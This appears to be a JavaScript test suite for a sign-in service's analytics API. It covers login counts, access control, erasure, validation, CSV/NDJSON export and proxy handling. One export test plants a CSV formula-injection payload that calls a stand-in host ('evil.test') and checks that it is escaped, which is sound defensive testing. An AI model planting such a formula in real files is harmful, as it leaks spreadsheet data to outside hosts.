// Analytics: what people do at the front door, counted for the organization and for the platform.

import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { assertApiError } from '../lib/expect.mjs';
import { CLI, decide, deviceCode, exchange, obtainCode, poll, signIn, tokens, tokenRequest, upstreamAnswer, webSignIn } from '../lib/flows.mjs';
import { databaseFiles, runToEnd } from '../lib/gatehouse.mjs';
import { Caller, ownedPlatform, register, signInAdministrator } from '../lib/management.mjs';
import { scenario } from '../lib/stage.mjs';

const ANN = { email: 'ann@example.test', email_verified: 'on', name: 'Ann' };
const BOB = { email: 'bob@example.test', email_verified: 'on', name: 'Bob' };
const DEMO = '/api/organizations/demo/analytics';
const PLATFORM = '/api/platform/analytics';
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[0-9a-f]{4}-[0-9a-f]{12}$/;

const day = (offset = 0) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

async function json(caller, path) {
  const answer = await caller.get(path);
  assert.equal(answer.status, 200, answer.text);
  return answer.json;
}

async function signInAtTerminal(stage, server, account, decision = 'approve') {
  const device = await deviceCode(server, CLI);
  await decide(stage.browser(), server, device.user_code, account, { decision });
  return poll(server, device, CLI);
}

/** The person says no at the provider: its answer to the callback, as RFC 6749 section 4.1.2.1 has it. */
async function cancelAtProvider(stage, server, headers = {}) {
  const browser = stage.browser();
  const callback = new URL(await upstreamAnswer(browser, server, webSignIn(server, 'dev').url, ANN));
  const state = callback.searchParams.get('state');
  const answer = await browser.get(`${callback.origin}${callback.pathname}?${new URLSearchParams({ error: 'access_denied', state })}`, headers);
  assert.match(answer.location, /error=access_denied/);
}

/** An app that does not have the verifier. */
async function wrongVerifier(server) {
  const attempt = await obtainCode(server, 'dev', BOB);
  const answer = await exchange(server, attempt, { code_verifier: 'x'.repeat(43) });
  assert.deepEqual([answer.status, answer.json.error], [400, 'invalid_grant']);
}

scenario('sign-ins in the browser and at a terminal, and those that fail, show up in every answer', async (stage) => {
  const { server, owner } = await ownedPlatform(stage);
  await signIn(server, 'dev', ANN);
  await signIn(server, 'dev', ANN);
  const { access } = await signIn(server, 'dev', BOB);
  tokens(await signInAtTerminal(stage, server, ANN));
  await cancelAtProvider(stage, server);
  await wrongVerifier(server);
  assert.equal((await signInAtTerminal(stage, server, BOB, 'deny')).json.error, 'access_denied');

  const trend = await json(owner, `${DEMO}/login-trends`);
  assert.deepEqual(trend.map((entry) => entry.date), Array.from({ length: 30 }, (_, index) => day(index - 29)), 'every day is there, in order');
  assert.deepEqual(trend.at(-1), { date: day(), count: 4, failed: 3, unique_users: 2, active_users_30d: 2 });
  assert(trend.slice(0, -1).every((entry) => entry.count + entry.failed + entry.unique_users + entry.active_users_30d === 0));

  const services = await json(owner, `${DEMO}/logins-by-service`);
  assert.deepEqual(services.map(({ count, failed }) => [count, failed]), [[3, 2], [1, 1]]);
  const known = (await json(owner, '/api/organizations/demo/services')).services;
  for (const [index, slug] of ['web', 'cli'].entries()) {
    const { id, name } = known.find((service) => service.slug === slug);
    assert.deepEqual([services[index].service_id, services[index].service_name], [id, name]);
  }
  assert.deepEqual(await json(owner, `${DEMO}/logins-by-provider`), [{ provider: 'dev', count: 4, failed: 3 }]);

  const recent = await json(owner, `${DEMO}/recent-logins`);
  assert.deepEqual(recent.map(({ email, method, outcome, reason }) => [email, method, outcome, reason]), [
    [ANN.email, 'device', 'success', null], [BOB.email, 'web', 'success', null],
    [ANN.email, 'web', 'success', null], [ANN.email, 'web', 'success', null],
  ]);
  for (const login of recent) {
    assert.match(login.id, UUID);
    assert.match(login.user_id, UUID);
    assert.deepEqual([login.provider, login.ip_address, typeof login.user_agent], ['dev', '127.0.0.1', 'string']);
    assert(Math.abs(Date.parse(login.created_at) - Date.now()) < 120_000);
    assert(known.some((service) => service.id === login.service_id));
  }
  assert.deepEqual((await json(owner, `${DEMO}/recent-logins?limit=1`)).map((login) => login.id), [recent[0].id]);
  const failures = await json(owner, `${DEMO}/recent-logins?outcome=failure`);
  assert.deepEqual(failures.map(({ method, reason, email }) => [method, reason, email]), [
    ['device', 'denied', BOB.email], ['web', 'code_verifier', BOB.email], ['web', 'cancelled', null],
  ]);
  assert.equal((await json(owner, `${DEMO}/recent-logins?outcome=all`)).length, 7);

  const overview = await json(owner, `${PLATFORM}/overview`);
  assert.deepEqual(overview, { total_organizations: 1, total_users: 3, total_end_users: 2, total_services: 2, total_logins_24h: 5, total_logins_30d: 5 });
  assert.deepEqual(await json(owner, `${PLATFORM}/organization-status`), { pending: 0, active: 1, suspended: 0, rejected: 0 });
  const activity = await json(owner, `${PLATFORM}/login-activity?start_date=${day(-1)}`);
  assert.deepEqual(activity, [{ date: day(-1), count: 0, failed: 0 }, { date: day(), count: 5, failed: 3 }]);
  assert.deepEqual((await json(owner, `${PLATFORM}/growth-trends`)).at(-1), { date: day(), new_organizations: 1, new_users: 3, new_end_users: 2 });
  const top = await json(owner, `${PLATFORM}/top-organizations`);
  assert.deepEqual(top.map(({ slug, user_count, service_count, login_count_30d }) => [slug, user_count, service_count, login_count_30d]), [['demo', 2, 2, 4]]);

  // Others see nothing, and what they see of their own is theirs.
  const eve = await signInAdministrator(server, { email: 'eve@example.test', name: 'Eve' });
  await register(eve, 'eve-inc');
  for (const path of ['login-trends', 'logins-by-service', 'logins-by-provider', 'recent-logins', 'export']) {
    assertApiError(await eve.get(`${DEMO}/${path}`), 404, 'NOT_FOUND');
    assertApiError(await new Caller(server, access).get(`${DEMO}/${path}`), 403, 'FORBIDDEN');
    assertApiError(await Caller.anonymous(server).get(`${DEMO}/${path}`), 401, 'UNAUTHORIZED');
  }
  const own = '/api/organizations/eve-inc/analytics';
  assert((await json(eve, `${own}/login-trends`)).every((entry) => entry.count === 0 && entry.failed === 0));
  for (const path of ['logins-by-service', 'logins-by-provider', 'recent-logins']) assert.deepEqual(await json(eve, `${own}/${path}`), []);
  assertApiError(await eve.get(`${PLATFORM}/overview`), 403, 'FORBIDDEN');
  const recentOrganizations = await json(owner, `${PLATFORM}/recent-organizations?limit=1`);
  assert.deepEqual(recentOrganizations.map(({ slug, status }) => [slug, status]), [['eve-inc', 'pending']]);

  // Erasing a user takes the person out and leaves the counts.
  const [{ user_id: ann }] = recent;
  assert.equal((await owner.delete(`/api/organizations/demo/users/${ann}`)).status, 204);
  assert.deepEqual((await json(owner, `${DEMO}/login-trends`)).at(-1), trend.at(-1));
  const erased = (await json(owner, `${DEMO}/recent-logins`)).filter((login) => login.user_id === ann);
  assert.deepEqual(erased.map(({ email, ip_address, user_agent }) => [email, ip_address, user_agent]), Array(3).fill([null, '', '']));
  assert.equal((await json(owner, `${PLATFORM}/overview`)).total_end_users, 1);
});

scenario('dates and limits that are none are refused by field', async (stage) => {
  const { owner } = await ownedPlatform(stage);
  const refused = {
    'start_date=yesterday': ['start_date'],
    'end_date=2026-02-30': ['end_date'],
    'end_date=2026-1-1': ['end_date'],
    'start_date=2026-01-02&end_date=2026-01-01': ['start_date'],
    'start_date=2024-01-01&end_date=2025-01-01': ['start_date', 'end_date'],
  };
  for (const path of [`${DEMO}/login-trends`, `${DEMO}/logins-by-service`, `${DEMO}/logins-by-provider`, `${DEMO}/export`, `${PLATFORM}/growth-trends`, `${PLATFORM}/login-activity`]) {
    for (const [query, fields] of Object.entries(refused)) {
      const answer = await owner.get(`${path}?${query}`);
      assertApiError(answer, 400, 'VALIDATION_FAILED');
      assert.deepEqual(answer.json.fields, fields, `${path}?${query}`);
    }
  }
  assert.equal((await json(owner, `${DEMO}/login-trends?start_date=2024-01-01&end_date=2024-12-31`)).length, 366);
  for (const path of [`${DEMO}/recent-logins`, `${PLATFORM}/top-organizations`, `${PLATFORM}/recent-organizations`]) {
    for (const limit of ['0', '101', 'ten', '-1', '1.5']) {
      assert.deepEqual((await owner.get(`${path}?limit=${limit}`)).json.fields, ['limit'], `${path} ${limit}`);
    }
  }
  assert.deepEqual((await owner.get(`${DEMO}/recent-logins?outcome=maybe`)).json.fields, ['outcome']);
  assert.deepEqual((await owner.get(`${DEMO}/export?format=xlsx`)).json.fields, ['format']);
});

scenario('an export is a file that a parser reads and a spreadsheet does not run', async (stage) => {
  const { server, owner } = await ownedPlatform(stage);
  const formula = '=HYPERLINK("http://evil.test/?"&A1,"open, please")';
  const browser = stage.browser();
  const attempt = webSignIn(server, 'dev');
  const callback = await upstreamAnswer(browser, server, attempt.url, ANN);
  const arrived = await browser.get(callback, { 'user-agent': formula });
  const code = new URL(arrived.location).searchParams.get('code');
  tokens(await tokenRequest(server, { grant_type: 'authorization_code', client_id: 'demo-web', code, redirect_uri: attempt.redirectUri, code_verifier: attempt.verifier }));
  await cancelAtProvider(stage, server);

  const csv = await owner.get(`${DEMO}/export?format=csv`);
  assert.equal(csv.status, 200, csv.text);
  assert.match(csv.headers['content-type'], /^text\/csv; charset=utf-8/);
  assert.equal(csv.headers['content-disposition'], `attachment; filename="logins-demo-${day(-29)}-${day()}.csv"`);
  const records = parse(csv.text, { columns: true, record_delimiter: '\r\n' });
  const recent = (await json(owner, `${DEMO}/recent-logins?outcome=all`)).reverse();
  assert.deepEqual(records.map((record) => [record.id, record.created_at, record.outcome, record.reason]), recent.map((login) => [login.id, login.created_at, login.outcome, login.reason ?? '']));
  assert.equal(records[0].user_agent, `'${formula}`, 'a formula becomes text');
  assert.deepEqual([records[0].email, records[0].service_name, records[0].ip_address, records[1].email], [ANN.email, recent[0].service_name, '127.0.0.1', '']);

  const ndjson = await owner.get(`${DEMO}/export?format=ndjson`);
  assert.match(ndjson.headers['content-type'], /^application\/x-ndjson/);
  assert.deepEqual(ndjson.text.trimEnd().split('\n').map((line) => JSON.parse(line)), recent, 'a line is what the list shows');
  const empty = await owner.get(`${DEMO}/export?start_date=2020-01-01&end_date=2020-01-31`);
  assert.deepEqual([empty.status, parse(empty.text, { record_delimiter: '\r\n' }).length], [200, 1], 'the header alone');

  const { logs } = await json(owner, '/api/organizations/demo/audit-log?action=analytics.exported');
  assert.deepEqual(logs.map((entry) => entry.metadata.format), ['csv', 'ndjson', 'csv']);
  assert.deepEqual(logs[0].metadata, { format: 'csv', start_date: '2020-01-01', end_date: '2020-01-31' });
});

scenario('forwarded addresses count only when a trusted proxy sends them', async (stage) => {
  for (const [env, expected] of [[{}, '127.0.0.1'], [{ TRUSTED_PROXIES: '127.0.0.0/8' }, '198.51.100.7']]) {
    const { server, owner } = await ownedPlatform(stage, { env });
    await cancelAtProvider(stage, server, { 'x-forwarded-for': '203.0.113.1, 198.51.100.7' });
    const [login] = await json(owner, `${DEMO}/recent-logins?outcome=failure`);
    assert.equal(login.ip_address, expected);
  }
});

scenario('days begin at midnight of UTC, and counts are proved and rebuilt from the command line', async (stage) => {
  const { server, owner } = await ownedPlatform(stage, { fakeClock: true });
  await signIn(server, 'dev', ANN);
  server.clock.set(86_400);
  await signIn(server, 'dev', ANN);
  await signIn(server, 'dev', BOB);
  const tomorrow = day(1);
  const fresh = await signInAdministrator(server, { email: owner.email, name: 'Root' });
  const trend = await json(fresh, `${DEMO}/login-trends?end_date=${tomorrow}`);
  assert.deepEqual(trend.slice(-2).map(({ count, unique_users, active_users_30d }) => [count, unique_users, active_users_30d]), [[1, 1, 1], [2, 2, 2]]);

  const [database] = databaseFiles(server.dir).filter((name) => name.endsWith('.db'));
  const analytics = (command) => runToEnd(['analytics', command, '--database', database], { cwd: server.dir });
  const verified = await analytics('verify');
  assert.equal(verified.code, 0, verified.stderr);
  assert.match(verified.stdout, /^login_days +\d+ rows +ok$/m);
  const refused = await analytics('rebuild');
  assert.equal(refused.code, 1, 'a running service keeps its database');
  assert.match(refused.stderr, /stop it first/);
  await server.stop();
  const rebuilt = await analytics('rebuild');
  assert.equal(rebuilt.code, 0, rebuilt.stderr);
  assert.equal(rebuilt.stdout, verified.stdout);
});
